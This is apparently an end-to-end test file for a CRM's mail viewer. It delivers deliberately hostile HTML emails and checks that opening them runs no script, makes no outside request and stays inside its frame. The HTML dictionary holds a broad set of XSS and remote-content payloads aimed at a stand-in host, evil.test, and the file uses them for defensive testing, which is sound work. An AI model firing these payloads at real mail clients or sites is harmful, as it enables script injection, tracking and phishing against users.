"""Mail that wants out of its frame: delivered by a real server, opened in the browser, and nothing gets anywhere."""

import base64
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from email.utils import format_datetime
from pathlib import Path

import pytest
from playwright.async_api import Dialog, Page, Request, expect

from tests.e2e.person import Person
from tests.e2e.words import words
from tests.support.browser import BrowserServer
from tests.support.dovecot import DovecotServer
from tests.support.embedded import PASSWORD, USERNAME, embedded_crm
from tests.support.mailbox_letters import OWN_ADDRESS
from tests.support.waiting import eventually

WRITER = "mallory@example.com"
EVIL = "http://evil.test"
RUN = "fetch('/pwned');top.document.title='pwned';alert(1)"
# A local address too: a script that ran would find it, and the log of requests shows it.
LURE = f"{EVIL}/a.png"
_INNER = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()
_STYLE = f"background:url({LURE})"

HTML = {
    "script": f"<script>{RUN}</script><script src='{EVIL}/x.js'></script>",
    "cdata": f'<![CDATA[<script>{RUN}</script>]]><x><![CDATA[><img src=x onerror="{RUN}">]]></x>',
    "svg namespace": f'<svg><style><img src=x onerror="{RUN}"></style></svg><math><mtext><img src=x onerror="{RUN}">',
    "svg script": (
        f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"><script>{RUN}</script>"
        f"<use href='{EVIL}/x.svg#a'/>"
    ),
    "svg animate": (
        f"<svg><a><animate attributeName='href' values='javascript:{RUN}' begin='0s'/><text y='20'>here</text></a>"
        f"<animate style='{_STYLE}'/><rect fill='url({EVIL}/f.svg#a)'/></svg>"
    ),
    "svg feimage": f"<svg><filter><feImage href='{LURE}'/></filter><image href='{LURE}'/></svg>",
    "link reference": f"[a]: {EVIL}/ref.css <link rel='stylesheet' href='{EVIL}/x.css'><base href='{EVIL}/'>",
    "handlers": f'<img src=x onerror="{RUN}"><body onload="{RUN}"><details open ontoggle="{RUN}">x</details>',
    "javascript links": f'<a href="javascript:{RUN}">one</a><a href=" java&#9;script:{RUN}">two</a>',
    "data links": (
        f"<a href='data:text/html;base64,{_INNER}'>three</a>"
        f"<iframe src='data:text/html;base64,{_INNER}'></iframe>"
    ),
    "frames": (
        f"<iframe srcdoc=\"<script>parent.location='{EVIL}'</script>\"></iframe>"
        f"<object data='{EVIL}/o'></object>"
    ),
    "css urls": f"<div style='{_STYLE}'>a</div><style>@import '{EVIL}/x.css';body{{{_STYLE}}}</style>",
    "css tricks": (
        rf"<p style='background:u\72l({LURE})'>b</p><p style='list-style-image:image-set(\"{LURE}\" 1x)'>c</p>"
        f"<p style='--a:url({LURE});background:var(--a)'>d</p><p style='width:expression({RUN})'>e</p>"
    ),
    "body background": (
        f"<body background='{LURE}'><table background='{LURE}'><tr>"
        f"<td background='{LURE}'>f</td></tr></table>"
    ),
    "out of place": (
        "<div style='position:fixed !important;top:0;left:0;width:9999px;height:9999px;z-index:99999;background:red'>"
        "g</div><div style='margin:-5000px;transform:scale(90)'>h</div>"
    ),
    "images": (
        f"<img src='{LURE}'><img srcset='{LURE} 2x'><picture><source srcset='{LURE}'>"
        f"</picture><video poster='{LURE}'>"
    ),
    "forms": (
        f"<form action='{EVIL}/f'><input name=p autofocus onfocus=\"{RUN}\">"
        f"<button formaction='{EVIL}'>Sign in</button>"
    ),
    "meta": (
        f"<meta http-equiv='refresh' content='0;url={EVIL}'>"
        f"<meta http-equiv='Content-Security-Policy' content=''>"
    ),
    "clobbering": "<form id=app></form><a id=top name=parent>x</a><img name=body>",
    "comments": f'<!--[if gte mso 9]><script>{RUN}</script><![endif]--><!--><img src=x onerror="{RUN}">-->',
    "deep": "<div>" * 5_000 + "deep" + f"<script>{RUN}</script>",
}
SHOWN = "location.pathname.endsWith('/body') && document.readyState === 'complete' && !!document.body.innerText.trim()"
INSIDE = """[document.scripts.length, [...document.querySelectorAll('*')]
  .flatMap(({ attributes }) => [...attributes]).filter(({ name }) => name.startsWith('on')).length, origin]"""
LINKS = "[...document.links].map((link) => link.getBoundingClientRect()).map(({ x, y }) => [x + 3, y + 3])"
TEXT = f'http://example.com/"onmouseover="{RUN} <img src=x onerror="{RUN}"> javascript:{RUN}'
SUBJECT = f'<img src=x onerror="{RUN}">'


def _mail(name: str, *, html: str = "", number: int = 0) -> bytes:
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = f"Mallory <{WRITER}>", OWN_ADDRESS, f"{name} {SUBJECT}"
    now = datetime.now(UTC)  # noqa: TID251 - the product under test uses the real clock too
    mail["Date"] = format_datetime(now - timedelta(minutes=number))
    mail["Message-ID"] = f"<hostile-{number}@example.com>"
    if html:
        mail.set_content(f"<p>begin {name}</p>{html}<p>end</p>", subtype="html")
    else:
        mail.set_content(TEXT)
    return mail.as_bytes()


@pytest.mark.servers("dovecot", "chromium")
async def test_hostile_mail_runs_nothing_asks_nobody_and_stays_in_its_frame(
    browser: BrowserServer, dovecot_server: DovecotServer, tmp_path: Path
) -> None:
    for number, (name, html) in enumerate(HTML.items(), start=1):
        await dovecot_server.deliver("INBOX", _mail(name, html=html, number=number))
    await dovecot_server.deliver("INBOX", _mail("plain text"))
    environment = {
        "MYCRM_MAILBOX_CA_FILE": str(dovecot_server.ca_file),
        "MYCRM_MAILBOX_ADDRESS": OWN_ADDRESS,
        "MYCRM_FETCH_INTERVAL_SECONDS": "1",
    }
    async with embedded_crm(tmp_path, environment=environment) as crm:
        await crm.set_up()
        await crm.ask("PATCH", "/me", {"language": "en"})
        account = dovecot_server.account
        await crm.connect_mailbox(
            host=account.host, port=account.port, username=account.username, password=account.password
        )
        customer = await crm.ask("POST", "/customers", {"email": WRITER}, status=201)
        path = f"/customers/{customer['id']}/messages"

        async def all_stored() -> bool:
            return bool((await crm.ask("GET", f"{path}?total=exact"))["total"] == len(HTML) + 1)

        await eventually(all_stored, what="every hostile mail is stored", seconds=60)
        window = await browser.open_window(locale="en")
        page = window.page
        asked: list[str] = []
        dialogs: list[str] = []

        def note(request: Request) -> None:
            asked.append(request.url)

        async def refuse(dialog: Dialog) -> None:
            dialogs.append(dialog.message)
            await dialog.dismiss()

        page.context.on("request", note)
        page.context.on("dialog", refuse)
        await page.goto(f"{crm.url}/customers?customer={customer['id']}")
        await Person(page, words("en")).sign_in(username=USERNAME, password=PASSWORD)
        title = await page.title()
        opened = await _open_each(page)

        assert opened == len(HTML) + 1
        assert dialogs == []
        assert [url for url in asked if not url.startswith(f"{crm.url}/") or "pwned" in url] == []
        assert await page.title() == title
        assert page.url.startswith(crm.url)
        assert window.complaints(expected=["401"]) == []
        await window.keep_screenshot("hostile-mail")


async def _look_inside(page: Page) -> None:
    """See that nothing in the open mail could run, and point at each of its links.

    Everything is asked from outside: what waits inside the frame, as the browser's driver does, counts as a script
    that was blocked.
    """
    iframe = page.locator("article iframe")
    frame = await (await iframe.element_handle()).content_frame()
    assert frame is not None

    async def is_shown() -> bool:
        return bool(await frame.evaluate(SHOWN))

    await eventually(is_shown, what="the mail is shown", seconds=60)
    assert await frame.evaluate(INSIDE) == [0, 0, "null"]
    box = await iframe.bounding_box()
    assert box is not None
    for x, y in await frame.evaluate(LINKS):
        await page.mouse.move(box["x"] + x, box["y"] + y)


async def _open_each(page: Page) -> int:
    """Open one mail after the other, look whether it stays in its place, and return how many there were."""
    say = words("en")
    drawer = page.get_by_role("complementary", name=say("messages.title"))
    older = drawer.get_by_role("button", name=say("messages.older"))
    await older.click()
    await expect(older).to_be_hidden()
    heads = drawer.locator("[data-mail-head]")
    place = await drawer.bounding_box()
    for index in range(await heads.count()):
        head = heads.nth(index)
        await head.click()
        await _look_inside(page)
        assert await drawer.bounding_box() == place
        at_list = await page.evaluate("document.elementFromPoint(200, 400).closest('section')?.tagName")
        assert at_list == "SECTION"
        await head.click()
    return await heads.count()
